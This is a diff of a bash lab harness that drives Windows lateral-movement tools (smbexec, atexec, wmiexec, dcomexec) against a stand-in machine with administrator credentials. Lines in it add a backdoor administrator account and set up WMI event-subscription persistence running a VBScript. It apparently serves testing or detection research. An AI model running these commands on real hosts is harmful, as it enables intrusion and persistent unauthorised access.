@@ -3,11 +3,11 @@ at=${address[sales]} admin="LAB/Administrator:$password@${address[sales]}"
 
 stand_in() {
   rm -rf "$lab/machine"; mkdir "$lab/machine"
-  serve sales "$py" "$here/standin" "$lab/machine" SALES-PC "$password" & standin=$!
+  serve sales "$py" "$here/standin" "$lab/machine" SALES-PC "$password" "$at" & standin=$!
   for _ in $(seq 100); do on client bash -c "</dev/tcp/$at/445" 2>/dev/null && return; sleep 0.1; done
 }
 
-shell() { local mode=$1; shift; printf '%s\n' "$@" exit | tool "$mode" "$admin"; }
+shell() { local name=$1; shift; printf '%s\n' "$@" exit | tool "$name" "$admin"; }
 
 do_commands() {
   shell smbexec whoami 'net user' 'net user helper Passw0rd!7 /add' 'net localgroup administrators helper /add' \
@@ -42,4 +42,14 @@ do_tasks() {
   tool atexec "$admin" whoami
   published task_rights
   published task_account
+}
+
+do_wmi() { shell wmiexec whoami; }
+do_netexec_wmi() { published netexec_smb_wmi; published netexec_wmi; }
+
+do_dcom() { shell dcomexec whoami; }
+
+do_subscription() {
+  echo 'CreateObject("WScript.Shell").Run "calc.exe"' > script.vbs
+  tool wmipersist "$admin" install -name updates -vbs script.vbs -filter 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_LocalTime"'
 }
